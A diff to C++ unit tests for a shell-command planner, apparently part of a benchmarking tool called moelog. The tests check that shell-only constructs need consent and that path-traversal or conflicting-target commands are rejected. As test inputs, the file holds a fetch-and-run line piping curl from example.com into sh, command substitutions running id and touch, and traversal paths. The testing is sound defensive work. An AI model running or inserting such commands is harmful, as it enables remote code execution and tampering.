@@ -276,12 +276,12 @@ TEST(ShellPlan, ReadHereStringAndQuotes) {
   ExpectBashAgrees(p);
 }
 
-TEST(ShellPlan, TeeAndMkdirAreAllowedButNeedBash) {
+TEST(ShellPlan, TeeAndMkdirAreInterpretedWithoutBash) {
   Plan p = PlanCommand(
       "set -euo pipefail; mkdir -p logs; for tk in 1 2; do python3 -u bench_moe_hillclimb.py --tokens 64 "
       "--topk \"$tk\" 2>&1 | tee \"logs/tk$tk.log\"; done");
   ASSERT_EQ(p.verdict, PlanVerdict::kRunnable) << p.Summary();
-  EXPECT_TRUE(p.needs_shell);
+  EXPECT_FALSE(p.needs_shell);  // moelog captures the output; the log file is not written
   EXPECT_EQ(p.invocations.size(), 2u);
   EXPECT_NE(p.rewritten_script.find("| tee"), std::string::npos);
 }
@@ -289,10 +289,46 @@ TEST(ShellPlan, TeeAndMkdirAreAllowedButNeedBash) {
 TEST(ShellPlan, UnknownProgramsNeedConsent) {
   Plan p = PlanCommand("curl http://example.com/x | sh; python bench_moe_hillclimb.py --tokens 64");
   EXPECT_EQ(p.verdict, PlanVerdict::kNeedsConsent);
-  EXPECT_NE(std::find(p.disallowed.begin(), p.disallowed.end(), "curl"), p.disallowed.end());
+  EXPECT_NE(std::find(p.disallowed.begin(), p.disallowed.end(), "runs curl"), p.disallowed.end());
   EXPECT_NE(p.Summary().find("--allow-shell"), std::string::npos);
+  // A substitution needs a shell; here bash could run it but moelog could not
+  // plan it, so it does not run even with consent.
   Plan q = PlanCommand("python bench_moe_hillclimb.py --tokens $(cat n.txt)");
-  EXPECT_EQ(q.verdict, PlanVerdict::kInvalid);
+  EXPECT_EQ(q.verdict, PlanVerdict::kNeedsConsent);
+  EXPECT_FALSE(q.unplannable.empty());
+  EXPECT_TRUE(q.invocations.empty());
+}
+
+// Without consent there is no shell: every construct that only bash could
+// carry out needs --allow-shell, wherever it appears in the text.
+TEST(ShellPlan, EveryShellOnlyFormNeedsConsent) {
+  const std::string b = "python bench_moe_hillclimb.py --tokens 64";
+  for (const std::string& text : std::vector<std::string>{
+           b + "; echo $(touch x)", b + "; echo `touch x`", b + "; echo $((1 + 2))",
+           b + " --topk ${TK:-$(touch x)}", b + " --trace-dir \"$(touch x)\"", "export X=\"$(id)\"; " + b,
+           "read -r A <<< \"$(id)\"; " + b, "for v in $(id); do " + b + "; done", "X=`id` " + b,
+           "${SHELL:-echo} -c 'touch x'; " + b, "PS4='x'; set -x; " + b, "date; " + b, "sleep 1; " + b,
+           "hostname x; " + b, "printf -v TK %s 8; " + b, "./bin/echo hi; " + b, "/bin/echo hi; " + b,
+           "./bin/sh -c 'touch x'; " + b, "echo hi > f; " + b, "echo hi | tee f; " + b, b + " | grep x",
+           b + " || true", b + " &", "cd /etc; " + b, "mkdir -p ../../x; " + b, "cat < f; " + b,
+           "bash -c 'echo $(id)'; " + b, b + " --topk ${#X}", b + " --topk ${X/a/b}", "set -o vi; " + b}) {
+    Plan p = PlanCommand(text);
+    EXPECT_EQ(p.verdict, PlanVerdict::kNeedsConsent) << text << " => " << p.Summary();
+    EXPECT_TRUE(p.needs_shell) << text;
+    EXPECT_NE(p.Summary().find("needs --allow-shell"), std::string::npos) << text;
+  }
+  // What moelog interprets itself runs without consent (and without a shell).
+  for (const std::string& text : std::vector<std::string>{
+           "set -euo pipefail; " + b, "X=2; export Y=3; " + b + " --topk \"$X\"", b + " --topk ${TK:-2}",
+           "mkdir -p logs; cd logs; " + b + " 2>&1 | tee -a run.log", b + " > out.log 2>&1",
+           "read -r A B <<< \"2 8\"; " + b + " --topk $A", "for tk in 2 8; do " + b + " --topk $tk; done | tee x",
+           "echo start; true; :; " + b}) {
+    Plan p = PlanCommand(text);
+    EXPECT_EQ(p.verdict, PlanVerdict::kRunnable) << text << " => " << p.Summary();
+    EXPECT_FALSE(p.needs_shell) << text;
+  }
+  // Model data is named, never a path a document chooses.
+  EXPECT_EQ(PlanCommand(b + " --hardware ../forged.json").verdict, PlanVerdict::kInvalid);
 }
 
 TEST(ShellPlan, NoAdapterReasons) {
@@ -329,8 +365,12 @@ TEST(ShellPlan, ExplicitMoelogAndTargetOption) {
   ASSERT_EQ(p.verdict, PlanVerdict::kRunnable);
   EXPECT_EQ(p.invocations[0].config.target, "cpu");
   EXPECT_EQ(p.invocations[0].config.iters, 1);
+  // The target is the user's: a command asking for another one is a conflict.
   Plan q = PlanCommand("moelog bench --target v5p --tokens 64", o);
-  EXPECT_EQ(q.invocations[0].config.target, "v5p");
+  EXPECT_EQ(q.verdict, PlanVerdict::kInvalid);
+  EXPECT_NE(q.reason.find("--target v5p"), std::string::npos) << q.reason;
+  Plan same = PlanCommand("moelog bench --target=cpu --tokens 64", o);
+  EXPECT_EQ(same.verdict, PlanVerdict::kRunnable) << same.Summary();
 }
 
 TEST(ShellPlan, ShellQuoteRoundTrips) {
